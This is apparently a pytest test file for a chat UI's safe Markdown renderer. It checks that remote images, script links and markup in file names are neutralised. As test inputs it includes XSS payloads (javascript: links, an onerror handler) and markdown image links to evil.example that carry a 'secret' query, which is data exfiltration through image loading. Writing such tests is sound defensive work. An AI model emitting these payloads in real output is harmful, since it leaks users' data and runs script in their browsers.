"""What a model, a document or a user writes is rendered without loading or running anything."""

from __future__ import annotations

import pytest

from app.ui.rendering import literal, safe_markdown


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        '![x]( <http://evil.example/a.png> "title")',
        "![x][ref]\n\n[ref]: http://evil.example/a.png",
        "<img src=http://evil.example/a.png>",
        "<IMG SRC='http://evil.example/a.png'/>",
        "<svg><image href='http://evil.example/a.png'/></svg>",
        "<video poster=http://evil.example/p.png>",
        "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    ],
)
def test_nothing_remote_is_left_to_load(text: str) -> None:
    shown = safe_markdown(text)
    assert "](http" not in shown and "<img" not in shown.lower() and "<svg" not in shown and "<video" not in shown
    assert "![" not in shown or "data:image/png" in shown


@pytest.mark.parametrize(
    "text",
    [
        "[go](javascript:alert(1))",
        "[go]( JavaScript:alert(1))",
        "[go](vbscript:x)",
        "[go](data:text/html,<b>x</b>)",
        "[go][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<a href='javascript:alert(1)'>go</a>",
    ],
)
def test_script_links_lose_their_target(text: str) -> None:
    shown = safe_markdown(text)
    assert "](javascript" not in shown.lower() and "<a " not in shown and "]: javascript" not in shown.lower()


def test_code_and_ordinary_text_stay_as_written() -> None:
    code = '```html\n<img src="http://x/a.png">\n```'
    assert safe_markdown(code) == code
    assert safe_markdown("use `<b>` here") == "use `<b>` here"
    assert safe_markdown("a < b and 3<4, **bold** [docs](https://example.com/docs)") == (
        "a < b and 3<4, **bold** [docs](https://example.com/docs)"
    )
    assert safe_markdown("![dot](data:image/png;base64,iVBORw0KGgo=)") == "![dot](data:image/png;base64,iVBORw0KGgo=)"
    assert safe_markdown("中文回答，没有图片。") == "中文回答，没有图片。"


def test_a_remote_image_still_says_what_it_was() -> None:
    assert "chart" in safe_markdown("![chart](http://x/c.png)")


def test_a_file_name_with_markup_is_shown_as_text() -> None:
    shown = literal("<img src=x onerror=alert(1)> [a](javascript:x) *b*.pdf")
    assert "<img" not in shown and "](javascript" not in shown and "*b*" not in shown
